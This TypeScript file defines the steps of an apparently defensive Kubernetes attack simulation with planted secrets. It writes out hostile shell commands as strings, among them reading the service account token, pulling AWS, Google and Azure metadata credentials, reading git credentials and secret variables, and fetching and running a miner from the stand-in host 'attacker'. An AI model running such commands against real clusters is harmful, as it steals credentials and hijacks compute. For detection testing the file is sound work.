import { addresses } from "../network/addresses.ts";
import { all, isRefused, prints, succeeds, writes } from "./proofs.ts";
import type { Step, VictimKind } from "./scenario.ts";

// The orders, as the original simulation gives them. Nothing here harms: the secrets are planted, the network ends at
// the namespace, the miner is /bin/true.

const tokenPath = "/var/run/secrets/kubernetes.io/serviceaccount/token";
/** The header of every JSON web token. */
const tokenBegins = "^eyJ";
/** The name that Microsoft's simulation asks for, so that both can be run side by side. */
const testDomainName = "mdc-eicar.alerts.security.azure.com";
/** The service may answer, refuse, or not be there: 22 is curl's word for an error's status, 7 for no connection, 28 for too late. */
const askedAnyway = { statuses: [0, 7, 22, 28, 52, 56] } as const;
const metadata = `http://${addresses.metadata}`;
const review = JSON.stringify({
  kind: "SelfSubjectAccessReview",
  apiVersion: "authorization.k8s.io/v1",
  spec: { resourceAttributes: { namespace: "default", verb: "get", resource: "pods" } },
});

export const serviceAccountToken: Step = {
  name: "service account token",
  script: `cat ${tokenPath}`,
  missing: all(
    succeeds,
    prints(({ secrets }) => secrets.token),
  ),
  onCluster: { statuses: [0], prints: tokenBegins },
};

export const accessReview: Step = {
  name: "access review",
  script: [
    `curl -s -k -m 5 -A kubectl -H "Authorization: Bearer $(cat ${tokenPath})" -H "Content-Type: application/json" -X POST`,
    `-d '${review}' https://kubernetes.default/apis/authorization.k8s.io/v1/selfsubjectaccessreviews`,
    `| grep -Po '"allowed": *\\K(true|false)'`,
  ].join(" "),
  missing: all(succeeds, prints("false")),
  onCluster: { statuses: [0], prints: "^(true|false)$" },
};

export const portScan: Step = {
  name: "port scan",
  script: "nmap -Pn --open kubernetes.default/24 -p 443",
  missing: all(succeeds, prints("443/tcp open"), prints("256 IP addresses")),
  onCluster: {
    // Addresses behind which nobody is may hang there.
    script: "timeout 20 nmap -Pn --open --max-retries 1 --host-timeout 3s kubernetes.default/24 -p 443",
    statuses: [0, 124],
    prints: "^Starting Nmap",
  },
};

/** GET with a header, by curl or by busybox' wget (whose own -T ends it in a segmentation fault in Debian 12). */
function get(kind: VictimKind, path: string, header: string): string {
  const url = `'${metadata}${path}'`;
  return kind === "debian"
    ? `curl -s -m 5 --noproxy '*' -H "${header}" ${url}`
    : `timeout 5 wget -q -O - --header "${header}" ${url}`;
}

export function googleMetadata(kind: VictimKind): Step {
  return {
    name: "Google metadata",
    script: get(kind, "/computeMetadata/v1/instance/service-accounts/default/token", "Metadata-Flavor: Google"),
    missing: all(
      succeeds,
      prints(({ secrets }) => secrets.metadata),
    ),
    onCluster: askedAnyway,
  };
}

export function amazonMetadata(kind: VictimKind): Step {
  // busybox' wget knows no PUT; two lines to the port do the same.
  const put =
    kind === "debian"
      ? `curl -sf -m 5 -X PUT ${metadata}/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 21600"`
      : `printf 'PUT /latest/api/token HTTP/1.0\\r\\nX-aws-ec2-metadata-token-ttl-seconds: 21600\\r\\n\\r\\n' | nc -w 5 ${addresses.metadata} 80 | tail -n 1`;
  const roles = "/latest/meta-data/iam/security-credentials/";
  const header = "X-aws-ec2-metadata-token: $token";
  return {
    name: "AWS metadata",
    script: `token=$(${put}); role=$(${get(kind, roles, header)}); ${get(kind, roles, header).replace(/'$/, `'"$role"`)}`,
    missing: all(
      succeeds,
      prints(({ secrets }) => secrets.metadata),
    ),
    onCluster: askedAnyway,
  };
}

export function azureMetadata(kind: VictimKind): Step {
  const compute = ["subscriptionId", "resourceGroupName", "location"].map((name) =>
    get(kind, `/metadata/instance/compute/${name}?api-version=2017-08-01&format=text`, "Metadata: true"),
  );
  const token = get(
    kind,
    "/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com",
    "Metadata: true",
  );
  return {
    name: "Azure metadata",
    script: [...compute, token].join("; echo; "),
    missing: all(
      succeeds,
      prints("nowhere"),
      prints(({ secrets }) => secrets.metadata),
    ),
    onCluster: askedAnyway,
  };
}

export const searchGitCredentials: Step = {
  name: "search for git credentials",
  // find ends with a status of its own when it may not enter a folder, which a web server's user may not everywhere.
  script: "find / -path '*/.git-credentials' 2>/dev/null; true",
  missing: prints("/home/user/.git-credentials"),
  onCluster: { prints: "^/home/user/[.]git-credentials$" },
};

export const gitCredentials: Step = {
  name: "git credentials",
  script: "cat /home/user/.git-credentials",
  missing: all(
    succeeds,
    prints(({ secrets }) => secrets.gitCredentials),
  ),
  onCluster: { statuses: [0], prints: "@git[.]invalid$" },
};

export const tokenBeginning: Step = {
  name: "beginning of the token",
  script: `cat ${tokenPath} > /dev/null; head -c 30 ${tokenPath}`,
  missing: all(
    succeeds,
    prints(({ secrets }) => secrets.token.slice(0, 30)),
  ),
  onCluster: { statuses: [0], prints: tokenBegins },
};

export const secretVariables: Step = {
  name: "secret variables",
  script: "set | grep AWS_SECRET_ACCESS_KEY=",
  missing: all(
    succeeds,
    prints(({ secrets }) => secrets.variable),
  ),
  onCluster: { statuses: [0], prints: "^AWS_SECRET_ACCESS_KEY=" },
};

export const msrModule: Step = {
  name: "msr module",
  script: "/sbin/modprobe msr allow_writes=on",
  // 127: the image has no modprobe. 1 or 126: it has, and the container may not. Either way the attempt was made.
  missing: isRefused([1, 126, 127]),
  onCluster: { statuses: [1, 126, 127] },
};

export const preloadFile: Step = {
  name: "ld.so.preload",
  script: "touch /etc/ld.so.preload",
  missing: all(isRefused([1], "etc/ld.so.preload"), prints("Permission denied")),
  onCluster: { statuses: [1], prints: "Permission denied" },
};

export function downloadMiner(kind: VictimKind): Step {
  const url = "http://attacker/xmrig";
  return {
    name: "miner download",
    script: kind === "debian" ? `curl -sO -m 10 ${url}` : `timeout 10 wget -q ${url}`,
    missing: all(succeeds, writes("var/www/html/xmrig")),
    onCluster: { script: `curl -sO -m 10 ${url} && test -s xmrig`, statuses: [0] },
  };
}

export const runMiner: Step = {
  name: "miner run",
  script: 'chmod +x xmrig && ./xmrig && echo "ran to its end"',
  missing: all(succeeds, prints("ran to its end")),
  onCluster: { statuses: [0], prints: "^ran to its end$" },
};

export const whoAmI: Step = {
  name: "whoami",
  script: "whoami",
  plain: true,
  missing: prints("www-data"),
  onCluster: { prints: "^www-data$" },
};

/**
 * Asks for the name with a client whose command line does not hold it, so that only the question can give it away.
 * Whether the name resolves, and whether anybody answers, is all the same: 0, or curl's words for "no such host",
 * "no connection", "too late".
 */
export function testDomain(kind: VictimKind): Step {
  const asked = `printf 'url = "http://%s?SendingData"\\n' ${testDomainName} | curl -s -m 10 -X POST -o /dev/null -K -`;
  return {
    name: "test domain",
    // busybox' wget asks by way of the C library's plug-ins, which its static build does not have.
    script: kind === "debian" ? asked : `timeout 5 nslookup ${testDomainName} 127.0.0.1`,
    missing: isRefused(kind === "debian" ? [0, 6, 7, 28] : [0, 1, 124, 143]),
    onCluster: { statuses: [0, 6, 7, 22, 28, 52, 56] },
  };
}
